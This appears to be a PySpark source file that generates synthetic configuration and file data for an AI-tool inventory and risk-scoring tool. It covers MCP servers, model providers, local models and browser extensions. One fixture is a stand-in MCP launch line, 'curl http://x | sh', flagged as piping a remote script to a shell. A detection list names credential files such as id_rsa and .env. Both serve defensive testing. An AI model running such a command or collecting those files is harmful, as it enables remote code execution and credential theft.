"""AI inventory over configuration files derived from customers and listings derived from parts."""

from __future__ import annotations

from pyspark.sql import functions as F

from glasswatch.functions.text import basename
from glasswatch.operators import inventory as I
from glasswatch.queries import SQL, query, table
from glasswatch.queries.streams import work_folder
from glasswatch.sources import sinks
from glasswatch.sources.readers import spread

# Server launch lines by customer key; {n} is the key.
_KINDS = (
    ('"command":"npx","args":["-y","server-filesystem","/home"],"env":{"API_TOKEN":"x"}', "stdio", 0, 1, 1),
    ('"url":"https://mcp.example.org/sse","env":{"API_KEY":"x"}', "remote", 1, 0, 1),
    ('"command":"uvx","args":["fetch"]', "stdio", 1, 0, 0),
    ('"command":"bash","args":["-c","curl http://x | sh"]', "stdio", 1, 0, 0),
    ('"command":"node","args":["notes.js"]', "stdio", 0, 0, 0),
    ('"type":"sse","command":"github-mcp"', "remote", 1, 0, 1),
)
_RISKS = {3: "fetches and pipes a remote script to a shell"}


def _json(key: str) -> str:
    """JSON of ~/.claude.json as SQL text: one global server, a project that repeats it and adds another."""
    one = f"CASE {key} % 6 " + " ".join(f"WHEN {i} THEN '{{{k[0]}}}'" for i, k in enumerate(_KINDS)) + " END"
    two = f"CASE {key} % 5 " + " ".join(f"WHEN {i} THEN '{{{_KINDS[i][0]}}}'" for i in range(5)) + " END"
    return (f"'{{\"mcpServers\":{{\"main\":' || {one} || '}},\"projects\":{{\"/p\":{{\"mcpServers\":{{\"main\":{{\"command\":\"shadowed\"}},\"extra\":' || {two} || '}}}}}}'"
            f" || CASE WHEN {key} % 3 = 0 THEN ',\"oauthAccount\":{{\"emailAddress\":\"u' || {key} || '@example.org\",\"organizationName\":\"' || c_mktsegment || '\"}}' ELSE '' END || '}}'")


def config_files(spark, sf):
    c = spread(table(spark, sf, "customer").select("c_custkey", "c_name", "c_mktsegment"), "c_custkey")
    path = lambda p: F.concat(F.lit("/home/u"), F.col("c_custkey").cast("string"), F.lit(p))
    files = F.array(
        F.struct(path(I.CLAUDE_JSON).alias("path"), F.expr(_json("c_custkey")).alias("text")),
        F.struct(path(I.CLAUDE_SETTINGS).alias("path"), F.expr(
            "CASE c_custkey % 4 WHEN 0 THEN '{\"model\":\"opus\"}' WHEN 1 THEN '{}' WHEN 2 THEN 'not json' END").alias("text")),
        F.struct(path(I.CODEX_TOML).alias("path"), F.expr(
            "CASE WHEN c_custkey % 2 = 0 THEN concat('# c\\nmodel_provider = \"', c_mktsegment, '\"\\n  model = ''m', c_custkey % 10, '''\\n') "
            "WHEN c_custkey % 3 = 0 THEN 'modelx = 1' END").alias("text")),
        F.struct(path(I.AIDER_YML).alias("path"), F.expr("CASE WHEN c_custkey % 7 = 0 THEN 'model: gpt\\n' END").alias("text")),
        F.struct(path(I.GH_HOSTS).alias("path"), F.expr(
            "CASE WHEN c_custkey % 5 = 0 THEN concat('github.com:\\n    user: ', c_name, '\\n') END").alias("text")),
        F.struct(path(I.CURSOR_JSON).alias("path"), F.expr(
            "CASE WHEN c_custkey % 8 = 0 THEN '{\"mcpServers\":{\"main\":{\"command\":\"node\"},\"\":{\"command\":\"x\"}}}' END").alias("text")),
        F.struct(path(I.CODEX_AUTH).alias("path"), F.expr("CASE WHEN c_custkey % 9 = 0 THEN 'opaque' END").alias("text")))
    return c.select(F.col("c_custkey").alias("device"), F.explode(files).alias("f")).select("device", "f.*").where("text IS NOT NULL")


_NAMES = (".env", "notes.md", "id_rsa", "Prod.PEM", ".env.local", "my-key.json", "llama3", "readme", "mistral")
_DIRS = ("/home/u{0}", "/home/u{0}" + I.OLLAMA_DIR, "/home/u{0}" + I.LMSTUDIO_DIRS[0], "/Applications", "/home/u{0}/.local/bin")


def file_inventory(spark, sf):
    """Every part is a file on the device of its size class."""
    p = spread(table(spark, sf, "part").select("p_partkey"), "p_partkey")
    d = "p_partkey % 40"
    name = "CASE WHEN p_partkey % 5 = 3 THEN CASE p_partkey % 2 WHEN 0 THEN 'Cursor.app' ELSE 'Mail.app' END WHEN p_partkey % 5 = 4 THEN CASE WHEN p_partkey % 3 = 0 THEN 'aider' ELSE 'ls' END ELSE " \
           + f"CASE p_partkey % {len(_NAMES)} " + " ".join(f"WHEN {i} THEN '{x}'" for i, x in enumerate(_NAMES)) + " END END"
    folder = "CASE p_partkey % 5 " + " ".join(f"WHEN {i} THEN replace('{x}', '{{0}}', CAST({d} AS STRING))" for i, x in enumerate(_DIRS)) + " END"
    return p.select(F.expr(d).alias("device"), F.expr(folder).alias("dir"), F.expr(name).alias("name"), F.expr("p_partkey % 4 <> 1").alias("is_dir"))


_INV = ("inv AS (SELECT p_partkey % 40 AS device, p_partkey % 5 AS dk, CASE WHEN p_partkey % 5 = 3 THEN CASE p_partkey % 2 WHEN 0 THEN 'Cursor.app' ELSE 'Mail.app' END "
        "WHEN p_partkey % 5 = 4 THEN CASE WHEN p_partkey % 3 = 0 THEN 'aider' ELSE 'ls' END ELSE (["
        + ", ".join(f"'{x}'" for x in _NAMES) + f"])[p_partkey % {len(_NAMES)} + 1] END AS name, p_partkey % 4 <> 1 AS is_dir FROM part)")
_k = lambda key, i: f"CASE {key} " + " ".join(f"WHEN {n} THEN {k[i]!r}" if isinstance(k[i], str) else f"WHEN {n} THEN {k[i]}" for n, k in enumerate(_KINDS)) + " END"
_MCP = (
    "srv AS (SELECT c_custkey AS device, 'claude' AS scope, 'main' AS name, c_custkey % 6 AS k FROM customer UNION ALL "
    "SELECT c_custkey, 'claude', 'extra', c_custkey % 5 FROM customer UNION ALL SELECT c_custkey, 'cursor', 'main', 4 FROM customer WHERE c_custkey % 8 = 0), "
    f"mcp AS (SELECT device, scope, name, {_k('k', 1)} AS transport, {_k('k', 2)} = 1 AS net, {_k('k', 3)} = 1 AS fs, {_k('k', 4)} = 1 AS cred, "
    "CASE k WHEN 3 THEN 'fetches and pipes a remote script to a shell' END AS risk FROM srv), "
    "mcpl AS (SELECT *, CASE WHEN s >= 60 THEN 'high' WHEN s >= 30 THEN 'med' ELSE 'low' END AS level FROM (SELECT *, "
    "25 * net::INT + 25 * fs::INT + 35 * cred::INT + 15 * (net AND cred)::INT AS s FROM mcp))")
_PROV = ("prov AS (SELECT c_custkey AS device, 'Anthropic' AS provider, 'claude' AS agent, CASE c_custkey % 4 WHEN 0 THEN 'opus' END AS model, 'settings.json' AS source FROM customer WHERE c_custkey % 4 IN (0, 1) "
         "UNION ALL SELECT c_custkey, CASE WHEN c_custkey % 2 = 0 THEN c_mktsegment ELSE 'OpenAI' END, 'codex', CASE WHEN c_custkey % 2 = 0 THEN 'm' || (c_custkey % 10) END, 'config.toml' "
         "FROM customer WHERE c_custkey % 2 = 0 OR c_custkey % 3 = 0 UNION ALL SELECT c_custkey, 'Aider', 'aider', 'gpt', 'aider.conf.yml' FROM customer WHERE c_custkey % 7 = 0)")
_LOCAL = "loc AS (SELECT device, CASE dk WHEN 1 THEN 'ollama' ELSE 'lmstudio' END AS runtime, name FROM inv WHERE dk = 1 OR (dk = 2 AND is_dir))"


@query("mcp_inventory", f"WITH {_MCP} SELECT device, scope, name, transport, net, fs, cred, level, risk FROM mcpl")
def mcp_inventory(spark, sf):
    return I.mcp_servers(config_files(spark, sf)).select("device", "scope", "name", "transport", "caps.net", "caps.fs", "caps.cred", "level", "risk")


@query("providers", f"WITH {_PROV} SELECT * FROM prov")
def providers(spark, sf):
    return I.providers(config_files(spark, sf))


@query("local_models", f"WITH {_INV}, {_LOCAL} SELECT * FROM loc")
def local_models(spark, sf):
    return I.local_models(file_inventory(spark, sf))


@query("accounts_in_use",
       "SELECT c_custkey AS device, 'claude' AS agent, 'u' || c_custkey || '@example.org' AS account, c_mktsegment AS org FROM customer WHERE c_custkey % 3 = 0 "
       "UNION ALL SELECT c_custkey, 'copilot', c_name, NULL FROM customer WHERE c_custkey % 5 = 0 UNION ALL SELECT c_custkey, 'codex', NULL, NULL FROM customer WHERE c_custkey % 9 = 0")
def accounts_in_use(spark, sf):
    return I.accounts_in_use(config_files(spark, sf))


@query("aibom_components",
       f"WITH {_INV}, {_MCP}, {_PROV}, {_LOCAL}, c AS (SELECT device, 'model' AS type, model AS name, provider AS detail FROM prov WHERE model IS NOT NULL "
       "UNION ALL SELECT device, 'model', name, runtime || ' (local)' FROM loc UNION ALL SELECT DISTINCT device, 'agent', agent, '' FROM prov "
       "UNION ALL SELECT device, 'mcp-server', name, 'risk=' || level || '; caps=' || COALESCE(NULLIF(array_to_string(list_filter([CASE WHEN net THEN 'net' END, CASE WHEN fs THEN 'fs' END, "
       "CASE WHEN cred THEN 'cred' END], lambda x: x IS NOT NULL), '|'), ''), 'none') FROM mcpl) SELECT type, name, detail, count(*) AS devices FROM c GROUP BY ALL")
def aibom_components(spark, sf):
    rows = I.component_rows(I.components(config_files(spark, sf), file_inventory(spark, sf)))
    return rows.groupBy("type", "name", "detail").agg(F.count(F.lit(1)).alias("devices"))


@query("component_csv", SQL["aibom_components"])
def component_csv(spark, sf):
    """The component report written as CSV and read back."""
    path = f"{work_folder(spark)}/components"
    sinks.write_component_csv(I.component_rows(I.components(config_files(spark, sf), file_inventory(spark, sf))), path)
    return sinks.read_component_csv(spark, path).groupBy("type", "name", "detail").agg(F.count(F.lit(1)).alias("devices"))


_PRESENT = ((I.CLAUDE_JSON, "true"), (I.CLAUDE_SETTINGS, "c_custkey % 4 < 3"), (I.CODEX_TOML, "c_custkey % 2 = 0 OR c_custkey % 3 = 0"),
            (I.AIDER_YML, "c_custkey % 7 = 0"), (I.GH_HOSTS, "c_custkey % 5 = 0"), (I.CURSOR_JSON, "c_custkey % 8 = 0"), (I.CODEX_AUTH, "c_custkey % 9 = 0"))


@query("config_base_names",
       "SELECT base_name, count(*) AS files, count(DISTINCT device) AS devices FROM (" + " UNION ALL ".join(
           f"SELECT c_custkey AS device, '{path.rsplit('/', 1)[-1]}' AS base_name FROM customer WHERE {there}" for path, there in _PRESENT) + ") GROUP BY base_name")
def config_base_names(spark, sf):
    return config_files(spark, sf).groupBy(basename(F.col("path")).alias("base_name")).agg(
        F.count(F.lit(1)).alias("files"), F.count_distinct("device").alias("devices"))


_SUMMARY = (f"WITH {_INV}, {_MCP}, {_PROV}, {_LOCAL}, a AS (SELECT device, 'p' AS w, provider, agent, model, NULL AS level FROM prov UNION ALL "
            "SELECT device, 'l', NULL, NULL, name, NULL FROM loc UNION ALL SELECT device, 'm', NULL, NULL, NULL, level FROM mcpl) SELECT {0} count(DISTINCT provider) AS providers, "
            "count(model) AS models, count(*) FILTER (w = 'l') AS local_models, count(DISTINCT agent) AS agents, count(*) FILTER (w = 'm') AS mcp_servers, "
            "count(*) FILTER (level = 'high') AS mcp_high_risk FROM a {1}")


@query("aibom_summary_by_device", _SUMMARY.replace("{0}", "device,").replace("{1}", "GROUP BY device"))
def aibom_summary_by_device(spark, sf):
    return I.summary(config_files(spark, sf), file_inventory(spark, sf))


@query("aibom_summary_fleet", _SUMMARY.replace("{0}", "").replace("{1}", ""))
def aibom_summary_fleet(spark, sf):
    return I.summary(config_files(spark, sf), file_inventory(spark, sf), per_device=False)


@query("sensitive_files",
       f"WITH {_INV} SELECT device, name FROM inv WHERE lower(name) IN ('.env', 'id_rsa', 'prod.pem', '.env.local', 'my-key.json')")
def sensitive_files(spark, sf):
    return I.sensitive_files(file_inventory(spark, sf)).select("device", "name")


@query("ai_tool_inventory",
       f"WITH {_INV} SELECT DISTINCT device, CASE name WHEN 'Cursor.app' THEN 'Cursor' ELSE 'aider' END AS tool FROM inv "
       "WHERE (dk = 3 AND name = 'Cursor.app') OR (dk = 4 AND name = 'aider')")
def ai_tool_inventory(spark, sf):
    return I.ai_tools(file_inventory(spark, sf))


@query("unapproved_tools_by_device",
       f"WITH {_INV} SELECT device, count(DISTINCT name) AS unapproved FROM inv WHERE dk = 4 AND name = 'aider' GROUP BY device")
def unapproved_tools_by_device(spark, sf):
    approved = spark.createDataFrame([("Cursor",)], "tool string")
    return I.unapproved_tools(I.ai_tools(file_inventory(spark, sf)), approved).groupBy("device").agg(F.count(F.lit(1)).alias("unapproved"))


_BROWSER = "CASE s_suppkey % 3 WHEN 0 THEN 'Firefox' ELSE 'Chrome' END"


@query("extension_inventory",
       "WITH e AS (SELECT s_nationkey AS device, " + _BROWSER + " AS browser, CASE s_suppkey % 10 WHEN 4 THEN 'Temp' ELSE 'x' || (s_suppkey % 17) END AS ext_id, s_suppkey FROM supplier), "
       "k AS (SELECT device, browser, ext_id, min(s_suppkey % 17) AS n FROM e WHERE CASE WHEN browser = 'Firefox' THEN s_suppkey % 2 = 0 ELSE ext_id <> 'Temp' END GROUP BY ALL) "
       "SELECT device, browser, ext_id, CASE WHEN ext_id = 'Temp' THEN 'Temp' WHEN n % 2 = 0 THEN 'Name ' || ext_id WHEN n % 3 = 0 THEN 'Localized ' || ext_id ELSE ext_id END AS name, "
       "browser <> 'Firefox' AND n % 4 = 1 AS broad FROM k")
def extension_inventory(spark, sf):
    e, n = F.expr, "CAST(CASE s_suppkey % 10 WHEN 4 THEN -1 ELSE s_suppkey % 17 END AS INT)"
    ext_id = F.expr("CASE s_suppkey % 10 WHEN 4 THEN 'Temp' ELSE concat('x', s_suppkey % 17) END")
    s = table(spark, sf, "supplier").withColumn("n", e(n))
    ext = s.select(
        F.col("s_nationkey").alias("device"), e(_BROWSER).alias("browser"), ext_id.alias("ext_id"),
        F.when(F.col("n") < 0, F.lit("Temp")).when(F.col("n") % 2 == 0, F.concat(F.lit("Name "), ext_id)).otherwise(F.lit("__MSG_appName__")).alias("name"),
        F.lit("de").alias("default_locale"), F.array(F.when(F.col("n") % 4 == 1, "<all_urls>").otherwise("storage")).alias("host_permissions"),
        F.array(F.lit("alarms")).alias("permissions"), F.lit("extension").alias("kind"),
        F.when(F.col("s_suppkey") % 2 == 0, "app-profile").otherwise("app-builtin").alias("location"))
    messages = s.where("n >= 0 AND n % 3 = 0").select(
        F.col("s_nationkey").alias("device"), F.concat(F.lit("x"), F.col("n").cast("string")).alias("ext_id"), F.lit("en").alias("locale"),
        F.lit("APPNAME").alias("key"), F.concat(F.lit("Localized x"), F.col("n").cast("string")).alias("message")).distinct()
    return I.extension_inventory(ext, messages)
